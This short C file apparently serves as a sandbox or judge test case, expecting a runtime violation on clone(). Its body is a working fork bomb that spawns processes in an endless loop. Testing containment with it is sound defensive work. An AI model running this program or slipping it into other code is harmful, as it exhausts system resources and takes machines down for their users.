/* Fork bomb: must be RV (clone) with nothing left running. */
#include <unistd.h>
int main(void) { for (;;) fork(); }
